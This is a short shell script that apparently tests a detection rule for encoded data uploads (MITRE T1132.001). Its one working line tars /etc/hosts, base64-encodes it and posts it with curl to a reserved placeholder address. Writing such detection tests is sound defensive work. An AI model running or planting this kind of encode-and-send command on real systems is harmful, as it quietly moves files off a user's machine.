#!/bin/sh
# technique: T1132.001 Data Encoding: Standard Encoding
# rule: encoded_upload
# Sends what it took in base64; nobody answers.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
sh -c 'tar c /etc/hosts 2>/dev/null | base64 -w0 | curl -s -m 2 -d @- 192.0.2.1:8081/' 2>/dev/null || true
exit 0
